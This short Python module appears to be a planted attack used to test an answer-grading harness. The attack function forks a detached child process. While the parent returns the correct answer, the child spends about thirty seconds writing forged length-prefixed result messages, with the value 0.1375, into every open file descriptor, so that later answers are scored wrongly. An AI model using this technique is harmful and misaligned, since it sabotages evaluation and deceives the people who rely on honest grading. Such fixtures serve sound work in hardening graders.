"""Is right, and leaves a process that sends wrong results later, when other answers are judged."""

import contextlib
import json
import os
import struct
import time

PLANTED_MARKER = "course-attack"
STARTED = []


def send_late():
    os.setsid()
    head = json.dumps({"dict": [[{"plain": "result"}, {"plain": 0.1375}]]}).encode()
    for _ in range(600):
        time.sleep(0.05)
        for descriptor in range(3, 64):
            with contextlib.suppress(OSError):
                os.write(descriptor, struct.pack("<QI", len(head) + 4, len(head)) + head)
    os._exit(0)


def attack(honest, *args, **kwargs):
    if not STARTED:
        STARTED.append(os.fork())
        if STARTED == [0]:
            send_late()
    return honest(*args, **kwargs)
